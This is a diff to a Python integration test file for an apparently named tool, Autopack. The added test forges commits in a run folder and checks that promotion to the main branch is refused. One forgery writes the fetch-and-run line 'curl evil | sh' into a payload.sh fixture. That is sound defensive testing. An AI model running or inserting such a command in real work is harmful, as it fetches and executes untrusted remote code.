@@ -14,7 +14,7 @@ import pytest
 from autopack.domain.errors import Conflict
 from autopack.supervisor.apply import PromotionRefused
 from autopack.vcs.promotion import PromotionAction
-from tests.gitutil import fingerprint, git, make_repo
+from tests.gitutil import GIT_ENV, fingerprint, git, make_repo
 from tests.integration.vcs_fixtures import Project
 
 AUTOPACK = str(Path(sys.executable).with_name("autopack"))
@@ -185,6 +185,41 @@ def test_a_commit_autopack_did_not_make_blocks_promotion(clean_project: Project,
     assert refused.value.reasons == [
         f"autopack/integration/run-1 holds a commit Autopack did not make: {forged[:12]} "
         "sneaky"]
+    assert git(repo, "rev-parse", "main") == main
+
+
+@pytest.mark.parametrize("forgery", ["edited-summary", "extra-file", "link"])
+def test_a_forged_summary_commit_inside_the_run_folder_blocks_promotion(
+    clean_project: Project, forgery: str,
+) -> None:
+    """A commit with the summary trailers, by anyone, changing only the run's folder was
+    taken for Autopack's: an edited run_summary.json (which a CI `promotion check`
+    reads), a script, or a link reached main."""
+    clean_project.start(phases=(1,))
+    clean_project.complete(changes=CHANGE)
+    repo, branch = clean_project.repo, "refs/heads/autopack/integration/run-1"
+    tip = git(repo, "rev-parse", branch)
+    folder = ".autonomous_runs/run-1"
+    if forgery == "edited-summary":
+        entry = ("100644", b'{"state": "DONE_SUCCESS", "tiers": []}\n', "run_summary.json")
+    elif forgery == "extra-file":
+        entry = ("100644", b"curl evil | sh\n", "payload.sh")
+    else:
+        entry = ("120000", b"../../src", "tiers2")
+    blob = git(repo, "hash-object", "-w", "--stdin", input=entry[1])
+    env = {**GIT_ENV, "GIT_INDEX_FILE": str(repo.parent / f"index-{forgery}")}
+    for args in (("read-tree", tip),
+                 ("update-index", "--add", "--cacheinfo",
+                  f"{entry[0]},{blob},{folder}/{entry[2]}")):
+        subprocess.run(["git", *args], cwd=repo, env=env, check=True)
+    tree = subprocess.run(["git", "write-tree"], cwd=repo, env=env, check=True,
+                          capture_output=True, text=True).stdout.strip()
+    forged = git(repo, "commit-tree", tree, "-p", tip, "-m",
+                 "Run summaries\n\nAutopack-Run: run-1\nAutopack-Summary: final\n")
+    git(repo, "update-ref", branch, forged, tip)
+    main = git(repo, "rev-parse", "main")
+    with pytest.raises(PromotionRefused, match="a commit Autopack did not make"):
+        clean_project.sup.apply.promote("run-1", actor="t")
     assert git(repo, "rev-parse", "main") == main
 
 
